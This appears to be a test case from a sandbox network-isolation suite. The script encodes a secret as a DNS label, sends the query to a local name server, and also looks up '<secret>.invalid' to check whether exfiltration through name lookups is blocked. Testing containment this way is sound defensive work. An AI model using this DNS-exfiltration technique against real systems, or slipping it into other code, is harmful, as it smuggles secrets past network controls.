# id: E7
# attack: sends a secret out inside a name that it asks a name server for
# walls: network
# effect: the question arrives at a name server on the host
# verdict: AC
import socket
import struct
import sys

from facts import attempt

secret, port = sys.argv[1], int(sys.argv[2])


def ask():
    labels = b"".join(bytes([len(part)]) + part.encode() for part in (secret, "example", "org"))
    question = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(question, ("127.0.0.1", port))


attempt("question", ask)
attempt("getaddrinfo", lambda: bool(socket.getaddrinfo(f"{secret}.invalid", 80)))
